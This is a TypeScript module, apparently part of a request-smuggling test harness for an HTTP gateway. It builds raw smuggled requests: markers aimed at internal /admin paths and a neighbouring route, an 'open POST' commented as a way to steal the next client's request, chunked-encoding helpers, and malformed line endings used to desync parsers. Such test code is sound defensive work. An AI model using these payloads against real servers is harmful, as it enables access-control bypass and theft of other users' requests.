/** What one attack is written for: whom it goes to, and how its requests are known again. */
export type Aim = { prefix: string; neighbour: string; id: string }

/** An attack as text (latin1) for an aim. */
export type Draft = { name: string; write(aim: Aim): string }

/** A named piece of text. */
export type Piece = readonly [name: string, text: string]

export const END = '\r\n'

/** The start of the request that carries an attack: everything ahead of the fields that differ. */
export function opening(aim: Aim, method = 'POST', version = 'HTTP/1.1'): string {
  return `${method} ${aim.prefix}/first-${aim.id} ${version}\r\nhost: x\r\n`
}

/** The request that an attack tries to get past the gateway. */
export type Marker = readonly [name: string, write: (aim: Aim) => string]

export const MARKERS: readonly Marker[] = [
  ['GET', (aim) => `GET ${aim.prefix}/marker-${aim.id} HTTP/1.1\r\nhost: x\r\n\r\n`],
  [
    'POST to the neighbour',
    (aim) => `POST ${aim.neighbour}/marker-${aim.id} HTTP/1.1\r\nhost: x\r\ncontent-length: 3\r\n\r\nabc`
  ],
  ['DELETE of an internal path', (aim) => `DELETE /admin/marker-${aim.id} HTTP/1.1\r\nhost: internal\r\n\r\n`],
  // Swallows what follows it: the classic way to steal the next client's request.
  [
    'an open POST',
    (aim) => `POST ${aim.prefix}/marker-${aim.id} HTTP/1.1\r\nhost: x\r\ncontent-length: 60\r\n\r\nstolen=`
  ]
]

export function chunk(data: string, size = data.length.toString(16)): string {
  return `${size}\r\n${data}\r\n`
}

export const LAST_CHUNK = '0\r\n\r\n'

/** Ways to end a line, the right one last. */
export const LINE_ENDS: readonly Piece[] = [
  ['LF', '\n'],
  ['CR', '\r'],
  ['CR CR LF', '\r\r\n'],
  ['LF CR', '\n\r'],
  ['space CR LF', ' \r\n'],
  ['NUL CR LF', '\0\r\n'],
  ['nothing', ''],
  ['VT CR LF', '\x0b\r\n'],
  ['CR NUL LF', '\r\0\n'],
  ['CR space LF', '\r \n'],
  ['CR LF', '\r\n']
]
